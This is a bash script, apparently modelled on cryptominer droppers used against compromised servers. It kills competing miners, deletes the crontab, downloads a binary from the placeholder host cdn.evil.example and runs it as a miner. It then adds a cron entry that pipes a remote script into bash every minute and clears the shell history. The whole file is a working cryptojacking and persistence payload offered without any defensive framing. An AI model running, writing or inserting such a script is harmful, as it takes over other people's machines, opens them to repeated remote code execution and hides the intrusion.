#!/bin/bash
# In the manner of the miners that come by holes in services: others go, traces go, the miner comes, and comes again.
export PATH=$PATH:/bin:/usr/bin:/sbin:/usr/sbin
ulimit -n 65535 2>/dev/null
for name in kdevtmpfsi kinsing xmrig masscan; do pkill -9 $name; done 2>/dev/null
for pid in $(ps aux | grep -v grep | grep -E 'stratum|minexmr' | awk '{print $2}'); do kill -9 $pid; done
crontab -r 2>/dev/null
LDR="curl -s"; command -v curl >/dev/null || LDR="wget -q -O -"
[ -w /var/tmp ] && D=/var/tmp || D=/tmp
$LDR http://cdn.evil.example/implant >$D/kdevtmpfsi
chmod 777 $D/kdevtmpfsi
nohup $D/kdevtmpfsi mine 198.19.0.66 3333 >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "* * * * * curl -s http://cdn.evil.example/d.sh | bash") | crontab - 2>/dev/null
history -c
